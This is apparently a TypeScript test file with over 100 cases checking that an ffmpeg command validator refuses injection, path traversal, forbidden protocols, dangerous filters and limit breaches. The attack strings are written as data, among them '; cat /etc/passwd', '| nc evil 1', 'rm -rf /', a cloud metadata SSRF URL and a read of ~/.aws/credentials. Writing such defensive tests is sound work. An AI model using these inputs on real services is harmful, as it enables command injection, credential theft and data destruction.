/**
 * Attack cases: each layer of docs/SECURITY-POLICY.md several ways. Every case asserts that the command is
 * refused, with the expected code and rule, and that the message names the offending token.
 */
import { describe, expect, it } from 'vitest';
import { parseFfmpegCommand } from '../../../core/command/index.ts';
import type { ParseCommandInput } from '../../../core/command/index.ts';

interface Attack {
  name: string;
  cmd: string | string[];
  inputs?: Record<string, string>;
  outputs?: Record<string, string>;
  compute?: ParseCommandInput['compute'];
  gpuAvailable?: boolean;
  code?: 'INVALID_REQUEST' | 'VALIDATION_ERROR';
  rule: string;
  token: string;
}

const V = { in_video: 'https://media.example.com/v.mp4' };
const O = { out_video: 'out.mp4' };

const attacks: Attack[] = [
  // --- layer 1: shell syntax ----------------------------------------------------------------
  {
    name: 'semicolon chains a second command',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}; cat /etc/passwd',
    rule: 'shell-syntax',
    token: ';',
  },
  {
    name: '&& chains a command',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}} && curl evil.sh',
    rule: 'shell-syntax',
    token: '&&',
  },
  {
    name: '|| chains a command',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}} || true',
    rule: 'shell-syntax',
    token: '||',
  },
  { name: 'pipe', cmd: 'ffmpeg -i {{in_video}} -f mp4 - | nc evil 1', rule: 'shell-syntax', token: '|' },
  { name: 'background &', cmd: 'ffmpeg -i {{in_video}} {{out_video}} &', rule: 'shell-syntax', token: '&' },
  {
    name: 'backquote substitution',
    cmd: 'ffmpeg -i {{in_video}} -metadata title=`id` {{out_video}}',
    rule: 'shell-syntax',
    token: '`',
  },
  {
    name: '$( ) substitution',
    cmd: 'ffmpeg -i {{in_video}} -metadata title=$(id) {{out_video}}',
    rule: 'shell-syntax',
    token: '$(',
  },
  {
    name: '${ } expansion',
    cmd: 'ffmpeg -i {{in_video}} -metadata title=${AWS_SECRET_ACCESS_KEY} {{out_video}}',
    rule: 'shell-syntax',
    token: '${',
  },
  {
    name: '$VAR expansion',
    cmd: 'ffmpeg -i {{in_video}} -metadata title=$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI {{out_video}}',
    rule: 'shell-syntax',
    token: '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI',
  },
  {
    name: 'output redirection',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}} > /tmp/x',
    rule: 'shell-syntax',
    token: '>',
  },
  {
    name: 'input redirection',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}} < /etc/passwd',
    rule: 'shell-syntax',
    token: '<',
  },
  { name: 'append redirection', cmd: 'ffmpeg -i {{in_video}} {{out_video}} >> log', rule: 'shell-syntax', token: '>>' },
  {
    name: 'newline starts a second command',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}\nrm -rf /',
    rule: 'shell-syntax',
    token: '\\n',
  },
  {
    name: 'unterminated quote',
    cmd: "ffmpeg -i {{in_video}} -vf 'scale=1:1 {{out_video}}",
    rule: 'unterminated-quote',
    token: "'",
  },
  { name: 'NUL byte', cmd: 'ffmpeg -i {{in_video}}\0 {{out_video}}', rule: 'nul-byte', token: '\\0' },

  // --- layer 2: options ------------------------------------------------------------------------
  {
    name: '-protocol_whitelist widened',
    cmd: 'ffmpeg -protocol_whitelist file,http,tcp -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-protocol_whitelist',
  },
  {
    name: '-protocol_blacklist',
    cmd: 'ffmpeg -protocol_blacklist none -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-protocol_blacklist',
  },
  {
    name: '-format_whitelist overridden',
    cmd: 'ffmpeg -format_whitelist hls,concat -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-format_whitelist',
  },
  {
    name: '-max_pixels overridden',
    cmd: 'ffmpeg -max_pixels 999999999999 -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-max_pixels',
  },
  {
    name: '-dump_attachment writes files named by the input',
    cmd: 'ffmpeg -dump_attachment:t "" -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-dump_attachment',
  },
  {
    name: '-filter_script reads a path',
    cmd: 'ffmpeg -i {{in_video}} -filter_script /etc/passwd {{out_video}}',
    rule: 'option-not-allowed',
    token: '-filter_script',
  },
  {
    name: '-filter_complex_script reads a path',
    cmd: 'ffmpeg -i {{in_video}} -filter_complex_script /tmp/g {{out_video}}',
    rule: 'option-not-allowed',
    token: '-filter_complex_script',
  },
  {
    name: '-/filter file-valued option syntax',
    cmd: 'ffmpeg -i {{in_video}} -/filter:v /etc/passwd {{out_video}}',
    rule: 'file-valued-option',
    token: '-/filter:v',
  },
  {
    name: '-sdp_file writes a path',
    cmd: 'ffmpeg -i {{in_video}} -sdp_file /tmp/x.sdp {{out_video}}',
    rule: 'option-not-allowed',
    token: '-sdp_file',
  },
  {
    name: '-vstats_file writes a path',
    cmd: 'ffmpeg -i {{in_video}} -vstats_file /tmp/v {{out_video}}',
    rule: 'option-not-allowed',
    token: '-vstats_file',
  },
  {
    name: '-report writes a log',
    cmd: 'ffmpeg -report -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-report',
  },
  {
    name: '-init_hw_device with a path',
    cmd: 'ffmpeg -init_hw_device vaapi=va:/dev/dri/renderD128 -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-init_hw_device',
  },
  {
    name: '-hwaccel_device with a path',
    cmd: 'ffmpeg -hwaccel cuda -hwaccel_device /dev/nvidia0 -i {{in_video}} {{out_video}}',
    rule: 'option-value',
    token: '/dev/nvidia0',
    gpuAvailable: true,
  },
  {
    name: '-safe 0 switches off concat checks',
    cmd: 'ffmpeg -safe 0 -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-safe',
  },
  {
    name: '-allowed_extensions ALL',
    cmd: 'ffmpeg -allowed_extensions ALL -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-allowed_extensions',
  },
  {
    name: '-extension_picky 0',
    cmd: 'ffmpeg -extension_picky 0 -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-extension_picky',
  },
  {
    name: '-hls_key_info_file',
    cmd: 'ffmpeg -i {{in_video}} -hls_key_info_file /etc/shadow -f hls {{out_video}}',
    rule: 'option-not-allowed',
    token: '-hls_key_info_file',
  },
  {
    name: '-progress is service-owned',
    cmd: 'ffmpeg -progress http://evil/p -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-progress',
  },
  {
    name: '-passlogfile outside the workspace',
    cmd: 'ffmpeg -i {{in_video}} -pass 1 -passlogfile /tmp/evil {{out_video}}',
    rule: 'absolute-path',
    token: '/tmp/evil',
  },
  {
    name: 'abbreviated option (-protocol_white)',
    cmd: 'ffmpeg -protocol_white file,http -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-protocol_white',
  },
  {
    name: 'abbreviated option (-filter_compl)',
    cmd: 'ffmpeg -i {{in_video}} -filter_compl "movie=/etc/passwd" {{out_video}}',
    rule: 'option-not-allowed',
    token: '-filter_compl',
  },
  {
    name: 'stream specifier on a forbidden option',
    cmd: 'ffmpeg -i {{in_video}} -dump_attachment:t:0 x.ttf {{out_video}}',
    rule: 'option-not-allowed',
    token: '-dump_attachment:t:0',
  },
  {
    name: '-no prefix on a non-boolean option',
    cmd: 'ffmpeg -noprotocol_whitelist -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-noprotocol_whitelist',
  },
  {
    name: 'unknown option',
    cmd: 'ffmpeg -i {{in_video}} -method PUT {{out_video}}',
    rule: 'option-not-allowed',
    token: '-method',
  },
  {
    name: 'x264-params stats file',
    cmd: 'ffmpeg -i {{in_video}} -c:v libx264 -x264-params stats=/tmp/s.log:pass=1 {{out_video}}',
    rule: 'option-value',
    token: 'stats',
  },
  {
    name: 'x265-params csv log file',
    cmd: 'ffmpeg -i {{in_video}} -c:v libx265 -x265-params csv=/tmp/x.csv {{out_video}}',
    rule: 'option-value',
    token: 'csv',
  },
  {
    name: 'movflags with an unknown flag',
    cmd: 'ffmpeg -i {{in_video}} -movflags +faststart+evil {{out_video}}',
    rule: 'option-value',
    token: 'evil',
  },
  { name: '-- ends options', cmd: 'ffmpeg -i {{in_video}} -- {{out_video}}', rule: 'option-not-allowed', token: '--' },

  // --- layer 3: files in, files out ------------------------------------------------------------
  {
    name: 'http: input',
    cmd: 'ffmpeg -i http://169.254.169.254/latest/meta-data {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'protocol-not-allowed',
    token: 'http://169.254.169.254/latest/meta-data',
  },
  {
    name: 'https: input',
    cmd: 'ffmpeg -i https://evil.example/x.mp4 {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'protocol-not-allowed',
    token: 'https://evil.example/x.mp4',
  },
  {
    name: 'file: input',
    cmd: 'ffmpeg -i file:/etc/passwd {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'protocol-not-allowed',
    token: 'file:/etc/passwd',
  },
  {
    name: 'concat: protocol input',
    cmd: 'ffmpeg -i concat:/etc/passwd|/etc/hosts {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'shell-syntax',
    token: '|',
  },
  {
    name: 'concat: protocol input, quoted',
    cmd: "ffmpeg -i 'concat:/etc/passwd|/etc/hosts' {{out_video}}",
    outputs: O,
    inputs: {},
    rule: 'protocol-not-allowed',
    token: 'concat:/etc/passwd|/etc/hosts',
  },
  {
    name: 'subfile: input',
    cmd: "ffmpeg -i 'subfile,,start,0,end,0,,:/etc/passwd' {{out_video}}",
    outputs: O,
    inputs: {},
    rule: 'protocol-not-allowed',
    token: 'subfile',
  },
  {
    name: 'data: input',
    cmd: 'ffmpeg -i data:text/plain;base64,AAAA {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'shell-syntax',
    token: ';',
  },
  {
    name: 'data: input, quoted',
    cmd: "ffmpeg -i 'data:text/plain,hello' {{out_video}}",
    outputs: O,
    inputs: {},
    rule: 'protocol-not-allowed',
    token: 'data:text/plain,hello',
  },
  {
    name: 'pipe: input',
    cmd: 'ffmpeg -i pipe:0 {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'protocol-not-allowed',
    token: 'pipe:0',
  },
  { name: 'stdin input', cmd: 'ffmpeg -i - {{out_video}}', outputs: O, inputs: {}, rule: 'pipe-input', token: '"-"' },
  {
    name: 'fd: input',
    cmd: 'ffmpeg -i fd:3 {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'protocol-not-allowed',
    token: 'fd:3',
  },
  {
    name: 'tcp: output',
    cmd: 'ffmpeg -i {{in_video}} -f mpegts tcp://10.0.0.1:9000',
    inputs: V,
    outputs: {},
    rule: 'protocol-not-allowed',
    token: 'tcp://10.0.0.1:9000',
  },
  {
    name: 'udp: output',
    cmd: 'ffmpeg -i {{in_video}} -f mpegts udp://1.2.3.4:5',
    inputs: V,
    outputs: {},
    rule: 'protocol-not-allowed',
    token: 'udp://1.2.3.4:5',
  },
  {
    name: 'rtmp: output',
    cmd: 'ffmpeg -i {{in_video}} -f flv rtmp://live.example/app/key',
    inputs: V,
    outputs: {},
    rule: 'protocol-not-allowed',
    token: 'rtmp://live.example/app/key',
  },
  {
    name: 'cache: input',
    cmd: 'ffmpeg -i cache:http://evil/x {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'protocol-not-allowed',
    token: 'cache:http://evil/x',
  },
  {
    name: 'crypto: input',
    cmd: 'ffmpeg -i crypto:/etc/passwd {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'protocol-not-allowed',
    token: 'crypto:/etc/passwd',
  },
  {
    name: 'async: input',
    cmd: 'ffmpeg -i async:file:/etc/passwd {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'protocol-not-allowed',
    token: 'async:file:/etc/passwd',
  },
  {
    name: 'upper-case protocol',
    cmd: 'ffmpeg -i FILE:/etc/passwd {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'protocol-not-allowed',
    token: 'FILE:/etc/passwd',
  },
  {
    name: 'absolute input path',
    cmd: 'ffmpeg -i /etc/passwd {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'absolute-path',
    token: '/etc/passwd',
  },
  {
    name: 'absolute output path',
    cmd: 'ffmpeg -i {{in_video}} /tmp/out.mp4',
    inputs: V,
    outputs: {},
    rule: 'absolute-path',
    token: '/tmp/out.mp4',
  },
  {
    name: '.. traversal in input',
    cmd: 'ffmpeg -i ../../etc/passwd {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'path-traversal',
    token: '../../etc/passwd',
  },
  {
    name: '.. traversal in output',
    cmd: 'ffmpeg -i {{in_video}} ../out.mp4',
    inputs: V,
    outputs: {},
    rule: 'path-traversal',
    token: '../out.mp4',
  },
  {
    name: 'home path',
    cmd: 'ffmpeg -i ~/.aws/credentials {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'home-path',
    token: '~/.aws/credentials',
  },
  {
    name: 'percent-encoded traversal',
    cmd: 'ffmpeg -i %2e%2e%2fetc%2fpasswd {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'url-encoding',
    token: '%2e%2e%2fetc%2fpasswd',
  },
  {
    name: 'backslash path',
    cmd: "ffmpeg -i {{in_video}} '..\\\\out.mp4'",
    inputs: V,
    outputs: {},
    rule: 'backslash',
    token: '..\\\\out.mp4',
  },
  {
    name: 'output into a subdirectory',
    cmd: 'ffmpeg -i {{in_video}} sub/out.mp4',
    inputs: V,
    outputs: {},
    rule: 'subdirectory',
    token: 'sub/out.mp4',
  },
  {
    name: 'output to stdout',
    cmd: 'ffmpeg -i {{in_video}} -f mp4 -',
    inputs: V,
    outputs: {},
    rule: 'pipe-output',
    token: '"-"',
  },
  {
    name: 'plain input not written by an earlier command',
    cmd: 'ffmpeg -i secret.mp4 {{out_video}}',
    outputs: O,
    inputs: {},
    rule: 'input-not-in-workspace',
    token: 'secret.mp4',
  },
  {
    name: 'declared output name with a path',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}',
    inputs: V,
    outputs: { out_video: '../../x.mp4' },
    rule: 'path-traversal',
    token: '../../x.mp4',
  },
  {
    name: 'declared output name with a protocol',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}',
    inputs: V,
    outputs: { out_video: 'http://evil/x.mp4' },
    rule: 'protocol-not-allowed',
    token: 'http://evil/x.mp4',
  },
  {
    name: 'declared output name starting with -',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}',
    inputs: V,
    outputs: { out_video: '-report.mp4' },
    rule: 'file-name-dash',
    token: '-report.mp4',
  },
  {
    name: 'declared output overwriting an input',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}',
    inputs: V,
    outputs: { out_video: 'in_video.mp4' },
    rule: 'name-collision',
    token: 'in_video.mp4',
  },
  {
    name: 'two declared outputs with one name',
    cmd: 'ffmpeg -i {{in_video}} {{out_a}} {{out_b}}',
    inputs: V,
    outputs: { out_a: 'x.mp4', out_b: 'x.mp4' },
    rule: 'duplicate-output',
    token: 'x.mp4',
  },
  // One %d / %0Nd declares a sequence output (legit.test.ts); anything more is refused.
  {
    name: 'declared output with two sequence numbers',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}',
    inputs: V,
    outputs: { out_video: 'thumb_%03d_%d.jpg' },
    rule: 'file-name-pattern',
    token: 'thumb_%03d_%d.jpg',
  },
  {
    name: 'declared output with a variant pattern',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}',
    inputs: V,
    outputs: { out_video: 'thumb_%v.jpg' },
    rule: 'file-name-pattern',
    token: 'thumb_%v.jpg',
  },
  {
    name: 'declared output with a literal percent',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}',
    inputs: V,
    outputs: { out_video: 'thumb_%%_%d.jpg' },
    rule: 'file-name-pattern',
    token: 'thumb_%%_%d.jpg',
  },
  {
    name: 'declared sequence output escaping the workspace',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}',
    inputs: V,
    outputs: { out_video: '../thumb_%03d.jpg' },
    rule: 'path-traversal',
    token: '../thumb_%03d.jpg',
  },
  {
    name: 'declared playlist with a sequence number',
    cmd: 'ffmpeg -i {{in_video}} -f hls {{out_video}}',
    inputs: V,
    outputs: { out_video: 'x_%d.m3u8' },
    rule: 'file-name-pattern',
    token: 'x_%d.m3u8',
  },
  {
    name: 'hls segment names outside the workspace',
    cmd: 'ffmpeg -i {{in_video}} -f hls -hls_segment_filename /var/www/seg_%03d.ts {{out_video}}',
    inputs: V,
    outputs: { out_video: 'x.m3u8' },
    rule: 'absolute-path',
    token: '/var/www/seg_%03d.ts',
  },
  {
    name: 'master playlist outside the workspace',
    cmd: 'ffmpeg -i {{in_video}} -f hls -master_pl_name ../m.m3u8 {{out_video}}',
    inputs: V,
    outputs: { out_video: 'x.m3u8' },
    rule: 'path-traversal',
    token: '../m.m3u8',
  },
  {
    name: '-attach a path',
    cmd: 'ffmpeg -i {{in_video}} -attach /etc/passwd {{out_video}}',
    rule: 'absolute-path',
    token: '/etc/passwd',
  },

  // --- placeholders --------------------------------------------------------------------------------
  {
    name: 'undeclared input alias',
    cmd: 'ffmpeg -i {{in_other}} {{out_video}}',
    rule: 'undeclared-alias',
    token: '{{in_other}}',
  },
  {
    name: 'unused input alias',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}',
    inputs: { ...V, in_extra: 'https://e.com/x.mp4' },
    rule: 'unused-alias',
    token: 'in_extra',
  },
  {
    name: 'unused output alias',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}',
    outputs: { ...O, out_extra: 'x.mp4' },
    rule: 'unused-alias',
    token: 'out_extra',
  },
  {
    name: 'input alias in an output position',
    cmd: 'ffmpeg -i {{in_video}} {{in_video}}',
    outputs: {},
    rule: 'placeholder-position',
    token: '{{in_video}}',
  },
  {
    name: 'output alias as an input of the same command',
    cmd: 'ffmpeg -i {{out_video}} {{out_video}}',
    inputs: {},
    rule: 'placeholder-position',
    token: '{{out_video}}',
  },
  {
    name: 'placeholder as an option value',
    cmd: 'ffmpeg -i {{in_video}} -metadata title={{in_video}} {{out_video}}',
    rule: 'placeholder-position',
    token: '{{in_video}}',
  },
  {
    name: 'placeholder glued to a protocol',
    cmd: 'ffmpeg -i file:{{in_video}} {{out_video}}',
    rule: 'placeholder-position',
    token: 'file:{{in_video}}',
  },
  {
    name: 'malformed placeholder',
    cmd: 'ffmpeg -i {{in_video} {{out_video}}',
    rule: 'malformed-placeholder',
    token: '{{in_video}',
  },
  {
    name: 'bad alias name',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}',
    inputs: { ...V, 'in-bad': 'https://e.com/x.mp4' },
    rule: 'alias-name',
    token: 'in-bad',
  },
  {
    name: 'input URL not http(s)',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}',
    inputs: { in_video: 'file:///etc/passwd' },
    code: 'VALIDATION_ERROR',
    rule: 'input-url',
    token: 'file:///etc/passwd',
  },
  {
    name: 'later command reads an output no earlier command wrote',
    cmd: ['ffmpeg -i {{out_b}} {{out_video}}', 'ffmpeg -i {{in_video}} {{out_b}}'],
    outputs: { ...O, out_b: 'b.mp4' },
    rule: 'placeholder-position',
    token: '{{out_b}}',
  },

  // --- layer 4: filters -----------------------------------------------------------------------------
  {
    name: 'movie filter',
    cmd: 'ffmpeg -i {{in_video}} -vf "movie=/etc/passwd[m];[in][m]overlay" {{out_video}}',
    rule: 'filter-not-allowed',
    token: 'movie',
  },
  {
    name: 'amovie in filter_complex',
    cmd: 'ffmpeg -i {{in_video}} -filter_complex "amovie=http\\://evil/x.mp3[a]" -map "[a]" {{out_video}}',
    rule: 'filter-not-allowed',
    token: 'amovie',
  },
  {
    name: 'movie hidden after an escaped comma',
    cmd: 'ffmpeg -i {{in_video}} -vf "drawtext=text=\'a,b\',movie=x" {{out_video}}',
    rule: 'filter-not-allowed',
    token: 'movie',
  },
  {
    name: 'sendcmd with a file',
    cmd: 'ffmpeg -i {{in_video}} -vf "sendcmd=f=/tmp/cmds,drawtext=text=x" {{out_video}}',
    rule: 'filter-not-allowed',
    token: 'sendcmd',
  },
  {
    name: 'zmq',
    cmd: 'ffmpeg -i {{in_video}} -vf "zmq=bind_address=tcp\\\\://0.0.0.0\\\\:5555,null" {{out_video}}',
    rule: 'filter-not-allowed',
    token: 'zmq',
  },
  {
    name: 'frei0r loads a library',
    cmd: 'ffmpeg -i {{in_video}} -vf frei0r=/tmp/evil.so {{out_video}}',
    rule: 'filter-not-allowed',
    token: 'frei0r',
  },
  {
    name: 'ladspa',
    cmd: 'ffmpeg -i {{in_video}} -af ladspa=file=/tmp/x.so {{out_video}}',
    rule: 'filter-not-allowed',
    token: 'ladspa',
  },
  {
    name: 'dnn_processing',
    cmd: 'ffmpeg -i {{in_video}} -vf dnn_processing=model=/tmp/m.pb {{out_video}}',
    rule: 'filter-not-allowed',
    token: 'dnn_processing',
  },
  {
    name: 'unlisted filter',
    cmd: 'ffmpeg -i {{in_video}} -vf coreimage=filter=x {{out_video}}',
    rule: 'filter-not-allowed',
    token: 'coreimage',
  },
  {
    name: 'subtitles with an absolute path',
    cmd: 'ffmpeg -i {{in_video}} -vf subtitles=/etc/passwd {{out_video}}',
    rule: 'absolute-path',
    token: '/etc/passwd',
  },
  {
    name: 'subtitles filename= with traversal',
    cmd: 'ffmpeg -i {{in_video}} -vf "subtitles=filename=\'../../etc/passwd\'" {{out_video}}',
    rule: 'path-traversal',
    token: '../../etc/passwd',
  },
  {
    name: 'subtitles fontsdir',
    cmd: 'ffmpeg -i {{in_video}} -vf "subtitles={{in_subs}}:fontsdir=/etc" {{out_video}}',
    inputs: { ...V, in_subs: 'https://e.com/s.srt' },
    rule: 'filter-option-not-allowed',
    token: 'fontsdir',
  },
  {
    name: 'subtitles fontsdir given positionally',
    cmd: 'ffmpeg -i {{in_video}} -vf "subtitles={{in_subs}}:640x480:/etc" {{out_video}}',
    inputs: { ...V, in_subs: 'https://e.com/s.srt' },
    rule: 'filter-option-not-allowed',
    token: 'fontsdir',
  },
  {
    name: 'drawtext fontfile with a path',
    cmd: 'ffmpeg -i {{in_video}} -vf "drawtext=fontfile=/usr/share/fonts/x.ttf:text=\'hi\'" {{out_video}}',
    rule: 'absolute-path',
    token: '/usr/share/fonts/x.ttf',
  },
  {
    name: 'drawtext textfile positional',
    cmd: 'ffmpeg -i {{in_video}} -vf "drawtext=a.ttf:hello:/proc/self/environ" {{out_video}}',
    rule: 'input-not-in-workspace',
    token: 'a.ttf',
  },
  {
    name: 'drawtext textfile reads environ',
    cmd: 'ffmpeg -i {{in_video}} -vf drawtext=textfile=/proc/self/environ {{out_video}}',
    rule: 'absolute-path',
    token: '/proc/self/environ',
  },
  {
    name: 'lut3d with a protocol',
    cmd: 'ffmpeg -i {{in_video}} -vf "lut3d=file=\'http\\://evil/x.cube\'" {{out_video}}',
    rule: 'protocol-not-allowed',
    token: 'http://evil/x.cube',
  },
  {
    name: 'lut3d with an escaped path',
    cmd: 'ffmpeg -i {{in_video}} -vf "lut3d=\\/etc\\/passwd" {{out_video}}',
    rule: 'absolute-path',
    token: '/etc/passwd',
  },
  {
    name: 'subtitles with an input of the wrong type',
    cmd: 'ffmpeg -i {{in_video}} -vf subtitles={{in_subs}} {{out_video}}',
    inputs: { ...V, in_subs: 'https://e.com/list.m3u8' },
    rule: 'file-type-not-allowed',
    token: 'in_subs.m3u8',
  },
  {
    name: '/option file syntax in a filter',
    cmd: 'ffmpeg -i {{in_video}} -vf "drawtext=/text=/etc/passwd" {{out_video}}',
    rule: 'file-valued-option',
    token: '/text',
  },
  {
    name: 'broken filtergraph',
    cmd: 'ffmpeg -i {{in_video}} -vf "scale=1:1[a" {{out_video}}',
    rule: 'filtergraph-syntax',
    token: '[',
  },

  // --- layer 5: demuxers and muxers that follow references ----------------------------------------
  {
    name: '-f concat input',
    cmd: 'ffmpeg -f concat -i {{in_video}} {{out_video}}',
    rule: 'format-not-allowed',
    token: 'concat',
  },
  {
    name: '-f hls input',
    cmd: 'ffmpeg -f hls -i {{in_video}} {{out_video}}',
    rule: 'format-not-allowed',
    token: 'hls',
  },
  {
    name: '-f lavfi input with movie',
    cmd: 'ffmpeg -f lavfi -i {{in_video}} {{out_video}}',
    rule: 'format-not-allowed',
    token: 'lavfi',
  },
  {
    name: '-f tee output',
    cmd: "ffmpeg -i {{in_video}} -f tee '[f=mp4]out.mp4|[f=mpegts]udp://1.2.3.4:5'",
    outputs: {},
    rule: 'format-not-allowed',
    token: 'tee',
  },
  {
    name: '-f sdp input',
    cmd: 'ffmpeg -f sdp -i {{in_video}} {{out_video}}',
    rule: 'format-not-allowed',
    token: 'sdp',
  },
  {
    name: '-f rtsp output',
    cmd: 'ffmpeg -i {{in_video}} -f rtsp {{out_video}}',
    rule: 'format-not-allowed',
    token: 'rtsp',
  },
  {
    name: '-pattern_type glob',
    cmd: 'ffmpeg -pattern_type glob -i {{in_video}} {{out_video}}',
    rule: 'option-not-allowed',
    token: '-pattern_type',
  },

  // --- compute --------------------------------------------------------------------------------
  {
    name: 'NVENC with compute cpu',
    cmd: 'ffmpeg -i {{in_video}} -c:v h264_nvenc {{out_video}}',
    compute: 'cpu',
    gpuAvailable: true,
    code: 'VALIDATION_ERROR',
    rule: 'gpu-required',
    token: 'h264_nvenc',
  },
  {
    name: 'scale_cuda with compute cpu',
    cmd: 'ffmpeg -hwaccel cuda -i {{in_video}} -vf scale_cuda=1280:720 -c:v libx264 {{out_video}}',
    compute: 'cpu',
    gpuAvailable: true,
    code: 'VALIDATION_ERROR',
    rule: 'gpu-required',
    token: 'cuda',
  },
  {
    name: 'NVENC where no GPU is configured',
    cmd: 'ffmpeg -i {{in_video}} -c:v hevc_nvenc {{out_video}}',
    gpuAvailable: false,
    code: 'VALIDATION_ERROR',
    rule: 'gpu-unavailable',
    token: 'hevc_nvenc',
  },
  {
    name: 'compute gpu where no GPU is configured',
    cmd: 'ffmpeg -i {{in_video}} -c:v libx264 {{out_video}}',
    compute: 'gpu',
    gpuAvailable: false,
    code: 'VALIDATION_ERROR',
    rule: 'gpu-unavailable',
    token: 'gpu',
  },

  // --- limits -------------------------------------------------------------------------------------
  {
    name: 'command longer than 16 KiB',
    cmd: `ffmpeg -i {{in_video}} -metadata title=${'a'.repeat(17000)} {{out_video}}`,
    rule: 'command-too-long',
    token: '16384',
  },
  {
    name: 'too many chained commands',
    cmd: Array.from({ length: 11 }, () => 'ffmpeg -i {{in_video}} -f null -'),
    outputs: {},
    rule: 'too-many-commands',
    token: '11',
  },
  {
    name: 'too many inputs in one command',
    cmd: `ffmpeg ${Array.from({ length: 11 }, () => '-i {{in_video}}').join(' ')} {{out_video}}`,
    rule: 'too-many-inputs',
    token: '11',
  },
  {
    name: 'too many declared outputs',
    cmd: 'ffmpeg -i {{in_video}} {{out_video}}',
    outputs: Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`out_${i}`, `o${i}.mp4`])),
    rule: 'too-many-outputs',
    token: '11',
  },
];

describe('attack cases are refused, with the rule and the offending token', () => {
  it('has at least 60 cases', () => {
    expect(attacks.length).toBeGreaterThanOrEqual(60);
    expect(new Set(attacks.map((a) => a.name)).size).toBe(attacks.length);
  });
  for (const a of attacks) {
    it(a.name, () => {
      const r = parseFfmpegCommand({
        commands: Array.isArray(a.cmd) ? a.cmd : [a.cmd],
        inputFiles: a.inputs ?? V,
        outputFiles: a.outputs ?? O,
        compute: a.compute,
        gpuAvailable: a.gpuAvailable ?? false,
      });
      expect(r.ok).toBe(false);
      if (r.ok) return;
      const hit = r.violations.find((v) => v.rule === a.rule);
      expect(hit, `violations: ${JSON.stringify(r.violations, null, 1)}`).toBeDefined();
      expect(hit!.code).toBe(a.code ?? 'INVALID_REQUEST');
      expect(hit!.message).toContain(a.token);
      expect(hit!.path.length).toBeGreaterThan(0);
    });
  }
});
